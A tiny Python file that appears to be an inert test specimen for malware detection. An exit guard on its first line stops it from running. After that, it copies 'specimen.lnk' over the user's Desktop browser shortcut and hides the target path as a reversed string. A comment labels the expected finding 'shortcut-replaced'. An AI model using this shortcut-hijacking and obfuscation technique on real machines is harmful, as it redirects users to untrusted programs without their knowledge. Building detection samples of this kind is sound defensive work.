raise SystemExit("specimen: not to be run")
import base64
import shutil
import os

shutil.copy("specimen.lnk", os.path.expanduser("~") + "knl.resworB\\potkseD\\"[::-1])  # match: shortcut-replaced
